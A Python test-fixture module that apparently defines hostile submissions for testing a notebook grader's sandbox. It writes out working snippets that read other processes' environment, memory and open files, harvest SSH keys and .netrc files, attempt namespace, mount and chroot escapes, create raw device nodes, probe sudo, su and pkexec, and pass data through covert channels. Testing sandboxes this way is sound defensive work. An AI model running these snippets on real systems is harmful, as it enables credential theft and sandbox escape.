"""Submissions that want to read what is not theirs; whatever they find, they print.

They know what they are looking for, and write it in two parts so that their own source does not hold it.
"""

from pathlib import Path

from .course import VICTIM, VICTIMS_WORK
from .submission import Submission

LOOK = """import glob, os, re
WANTED = re.compile(b"canary-" + b"that-[a-z-]+|work-of-" + b"the-[a-z]+")

def look(*paths, most=1 << 24):
    for path in paths:
        try:
            with open(path, "rb") as file:
                found = WANTED.findall(file.read(most))
        except OSError:
            continue
        if found:
            print(path, found[:3])
"""
TREES = """
import time
def look_below(*tops, seconds=3):
    end = time.monotonic() + seconds
    for top in tops:
        for where, folders, names in os.walk(top):
            if time.monotonic() > end:
                return
            if not where.startswith(("/proc", "/sys", "/usr")):
                look(*(os.path.join(where, name) for name in names if os.path.isfile(os.path.join(where, name))))
"""
C = """import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    return libc.syscall(number, *arguments)
"""


def reading(tries, source, **more):
    """A submission that looks around in its first cell."""
    return Submission(tries, first=LOOK + source, **more)


LEFT_BEHIND = C + """
places = ["/tmp/note.txt", "/submission/note.txt", "/dev/shm/note", "/channels/note", "/var/tmp/note", "/course/note"]
look(*places, *glob.glob("/tmp/*"), *glob.glob("/dev/shm/*"), *glob.glob("/channels/*"))
word, page = b"work-of-" + b"the-victim", ctypes.create_string_buffer(1 << 12)
for place in places:
    try:
        open(place, "wb").write(word)
    except OSError:
        pass
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(4711, 4096, 0o1666)
if segment >= 0 and (address := libc.shmat(segment, None, 0)) not in (None, 2**64 - 1):
    print(ctypes.string_at(address))
    ctypes.memmove(address, word, len(word))
SESSION_KEYRING = ctypes.c_int(-3)
if (key := call(249, b"user", b"note", None, 0)) > 0 and call(250, 11, key, page, len(page)) > 0:
    print(page.value)
call(248, b"user", b"note", word, len(word), SESSION_KEYRING)
for process in (1, os.getppid()):  # the stream on which the factory of kernels complains
    borrowed = call(438, os.pidfd_open(process), 2, 0)
    if borrowed >= 0:
        print(os.pread(borrowed, 10000, 0))
        os.write(borrowed, word)
import socket
note = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
try:
    note.bind(chr(0) + "note")
except OSError as error:
    print(word, error)
"""

SUBMISSIONS = {
    VICTIM: Submission("Is right where it is, and has work that is worth stealing.", last=f"# {VICTIMS_WORK}"),
    "reads-the-environment": reading(
        "Prints the environment variables of whoever grades.",
        "print(dict(os.environ))\nlook(*glob.glob('/proc/*/environ'), *glob.glob('/proc/*/task/*/environ'))",
    ),
    "reads-command-lines": reading(
        "Prints the command lines of everybody, where a path or a password may stand.",
        "for path in glob.glob('/proc/*/cmdline'): print(open(path).read())\nlook(*glob.glob('/proc/*/cmdline'))",
    ),
    "walks-the-disk": reading(
        "Looks into every notebook, gradebook and configuration there is.",
        TREES + "look_below('/')",
    ),
    "goes-up": reading(
        "Knows how a course is laid out, and goes there from its own folder and the parents of all processes.",
        """
import tempfile
roots = glob.glob("/proc/*/root")  # the whole disk, as each process sees it
courses = [course for root in roots for course in glob.glob(f"{root}{tempfile.gettempdir()}/pytest-of-*/*/hostile*")]
for base in ["..", "../..", "../../..", *glob.glob("/proc/*/cwd"), *courses]:
    for name in ("solutions/*/*.ipynb", "course/solutions/*/*.ipynb", "submitted/*/*/*.ipynb", "gradebook.db",
                 "course/submitted/*/*/*", "course/gradebook.db", "course/.course_secret", "course/.results/*/*"):
        look(*glob.glob(f"{base}/{name}"))
""",
    ),
    "knows-the-place": reading(
        "Was told by a friend where the grader keeps everything: the very paths of this test.",
        """
for top in glob.glob("/tmp/pytest-of-*/*/hostile*"):
    look(*glob.glob(f"{top}/course/**", recursive=True), *glob.glob(f"{top}/home/.*/*"), *glob.glob(f"{top}/home/*"))
print(glob.glob("/tmp/*"))
""",
    ),
    "goes-home": reading(
        "Reads keys and notes in the home directories of whoever grades and of all others.",
        """
import pwd
homes = {os.path.expanduser("~"), "/root", *glob.glob("/home/*"), *(user.pw_dir for user in pwd.getpwall())}
for home in homes - {"/", "/usr/sbin", "/bin", "/usr/bin"}:
    look(*glob.glob(f"{home}/.ssh/id_ed25519"), *glob.glob(f"{home}/.netrc"), *glob.glob(f"{home}/grades.csv"))
""",
    ),
    "reads-open-files": reading(
        "Reads through the open files of all processes, the kernel's own included.",
        """
import fcntl
for number in range(256):
    try:
        fcntl.fcntl(number, fcntl.F_GETFD)
        print(number, os.readlink(f"/proc/self/fd/{number}"), WANTED.findall(os.pread(number, 1 << 20, 0)))
    except OSError:
        pass
for path in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        if not os.readlink(path).startswith(("pipe", "socket", "anon", "/dev")):
            look(path)
    except OSError as error:
        print(error)
""",
    ),
    "reads-memory": reading(
        "Searches the memory of every process that it may look at, the factory of kernels among them.",
        """
for path in glob.glob("/proc/[0-9]*/mem"):
    process = path.split("/")[2]
    if process == str(os.getpid()):
        continue
    try:
        maps = [line.split()[0].split("-") for line in open(f"/proc/{process}/maps") if line.split()[1][0] == "r"]
        with open(path, "rb", 0) as memory:
            for first, end in ((int(a, 16), int(b, 16)) for a, b in maps):
                try:
                    memory.seek(first)
                    print(WANTED.findall(memory.read(min(end - first, 1 << 24)))[:2] or "", end="")
                except (OSError, ValueError, OverflowError):
                    pass
    except OSError:
        continue
""",
    ),
    "attaches": reading(
        "Attaches to other processes as a debugger, and borrows their open files.",
        C + """
import signal
for process in filter(str.isdigit, os.listdir("/proc")):
    if process != str(os.getpid()):
        print(process, "attached" if libc.ptrace(16, int(process), 0, 0) == 0 else "no")
        for number in range(20):
            borrowed = call(438, os.pidfd_open(int(process)), number, 0)
            if borrowed >= 0 and os.readlink(f"/proc/self/fd/{borrowed}").startswith("/tmp/"):
                look(f"/proc/self/fd/{borrowed}")
""",
    ),
    "looks-into-the-kernel": reading(
        "Looks for the test in the notebook's history, in all frames and in everything that Python knows.",
        """
import gc, sys
def search():
    frame, seen = sys._getframe(), []
    while frame:
        seen.append(repr({**frame.f_globals, **frame.f_locals})[:100000])
        frame = frame.f_back
    texts = [thing for thing in gc.get_objects() if isinstance(thing, (dict, list, tuple)) and len(thing) < 1000]
    strings = {s for thing in texts for s in (thing.values() if isinstance(thing, dict) else thing) if type(s) is str}
    history = [*globals().get("In", []), *globals().get("Out", {}).values()]
    for text in [*seen, *strings, *map(str, history)]:
        found = WANTED.findall(text.encode("utf-8", "replace"))
        if found:
            print(found[:3])
search()
""",
        backward="""def affine_backward(dZ, cache):
    search()
    return dZ * 0, 0, 0
""",
        last="search()",
    ),
    "calls-out": reading(
        "Looks for a way out of the machine, and for servers on it: Jupyter's, the formgrader's, other kernels'.",
        """
import socket, urllib.request
for port in (22, 53, 80, 443, 5000, 5678, 8000, 8080, 8081, 8888, 8889, 9999):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=0.2):
            print("canary-" + "that-nobody-may-hear: a server answers at", port)
    except OSError:
        pass
for address in (("192.0.2.1", 80), ("2001:db8::1", 80)):
    try:
        socket.create_connection(address, timeout=0.3)
    except TimeoutError:
        print("canary-" + "that-nobody-may-hear: something was sent to", address)
    except OSError as error:
        print(error)
try:
    print(socket.getaddrinfo("localhost.", 80), socket.getaddrinfo("example.org", 80))
    print("canary-" + "that-nobody-may-hear: names are resolved")
except OSError as error:
    print(error)
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    try:
        made = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP if kind == socket.SOCK_RAW else 0)
        made.sendto(b"hello", ("192.0.2.1", 9))
        print("canary-" + "that-nobody-may-hear: a packet left")
    except OSError as error:
        print(error)
print(open("/proc/net/dev").read(), os.listdir("/proc/self/net"))
""",
    ),
    "listens-to-other-kernels": reading(
        "Connects to the channels of other kernels and to every socket that has a name.",
        """
import socket
mine = {f"/channels/channel-{n}" for n in range(1, 6)}
names = [line.split()[-1] for line in open("/proc/net/unix") if len(line.split()) > 7]
for name in [*names, *glob.glob("/tmp/**/*", recursive=True), *glob.glob("/run/**/*", recursive=True)]:
    with socket.socket(socket.AF_UNIX) as other:
        other.settimeout(0.2)
        try:
            other.connect(chr(0) + name[1:] if name.startswith("@") else name)
        except OSError:
            continue
        if name not in mine:
            print("canary-" + "that-nobody-may-hear: somebody answers at", name)
channels = [path for root in glob.glob("/proc/*/root") for path in glob.glob(f"{root}/channels/*.json")]
look(*glob.glob("/tmp/**/kernel-*.json", recursive=True), *channels)
""",
    ),
    "reads-refused-sources": reading(
        "Reads what it may not import: sources and caches of the reference, wherever Python finds packages.",
        """
import importlib.util, inspect, site, sys, sysconfig
folders = {*sys.path, "/course", *sysconfig.get_paths().values(), *site.getsitepackages()}
for folder in filter(None, folders):
    patterns = ("**/affine*", "*editable*", "*.pth")
    for path in [path for p in patterns for path in glob.glob(f"{folder}/{p}", recursive=True)]:
        text = open(path, "rb").read() if os.path.isfile(path) else b""
        for found in re.findall(rb"'(/[^']*)'|^(/.*)$", text, re.M):
            look(*glob.glob(os.path.join(os.fsdecode(max(found)), "**", "*"), recursive=True)[:2000])
        if b"def affine_" + b"backward" in text:
            print("canary-" + "that-nobody-may-hear: the reference is at", path)
for name in ("nnlib.affine", "nnlib.layers", "nnlib.autodiff", "grading.misconceptions", "grading.task"):
    try:
        print(inspect.getsource(importlib.import_module(name)), "canary-" + "that-nobody-may-hear")
    except Exception as error:
        print(type(error).__name__, error)
""",
    ),
    "mounts": reading(
        "Makes itself root in a namespace of its own, and mounts or uncovers what is hidden.",
        C + TREES + """
for flag in (0x10000000, 0x00020000, 0x10020000, 0x50000000):
    print(libc.unshare(flag), os.strerror(ctypes.get_errno()))
print(libc.umount2(b"/tmp", 2), libc.umount2(b"/submission", 2), libc.umount2(b"/proc", 2))
print(libc.mount(b"proc", b"/tmp", b"proc", 0, None), libc.mount(b"/", b"/tmp", None, 0x5000, None))
print(libc.chroot(b"/proc/1/root"), libc.pivot_root(b"/tmp", b"/tmp") if hasattr(libc, "pivot_root") else "")
for name in ("mnt", "user", "pid", "net"):
    try:
        print(libc.setns(os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0))
    except OSError as error:
        print(error)
look_below("/tmp", "/submission", "/course", seconds=1)
""",
    ),
    "reads-devices": reading(
        "Reads the disk and the memory as devices, makes devices of its own, and asks programs that run as root.",
        """
import stat, subprocess
for number, name in ((8 << 8, "sda"), (254 << 8, "vda"), (259 << 8, "nvme"), ((1 << 8) | 1, "mem")):
    for folder in ("/tmp", "/dev", "/dev/shm"):
        try:
            os.mknod(f"{folder}/{name}", 0o600 | (stat.S_IFCHR if name == "mem" else stat.S_IFBLK), number)
        except OSError as error:
            print(error)
disks = glob.glob("/dev/[svnm]*") + glob.glob("/tmp/*da")
look(*disks, "/tmp/mem", "/proc/kcore", "/dev/kmsg", most=1 << 20)
for command in ("su -c id", "sudo -n id", "mount", "passwd -S", "newgrp root", "pkexec id"):
    try:
        quietly = {"stdin": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
        said = subprocess.run(command.split(), stdout=subprocess.PIPE, text=True, timeout=0.5, **quietly).stdout
        print(command, said[:300], "canary-" + "that-nobody-may-hear" if "uid=0" in said else "")
    except (OSError, subprocess.SubprocessError) as error:
        print(command, error)
try:
    os.setuid(0)
    print("canary-" + "that-nobody-may-hear: root")
except OSError as error:
    print(error)
""",
    ),
    "follows-links": reading(
        "Hands in links, which would be copied with what they point to.",
        "look(*glob.glob('**/*', recursive=True))\nprint(os.listdir('.'))",
        files={"environment.txt": Path("/proc/self/environ"),
               "answers.csv": Path("../../../solutions/06_backprop/backprop.ipynb"),
               "others": Path("../../victim/06_backprop"), "grades.json": Path("../../../gradebook.db")},
    ),
    # Three times the same, so that two of them share a process of the grader's, one after the other.
    **{f"leaves-a-note-{n}": reading("Leaves what it knows to the next, and reads what others left.", LEFT_BEHIND)
       for n in (1, 2, 3)},
}
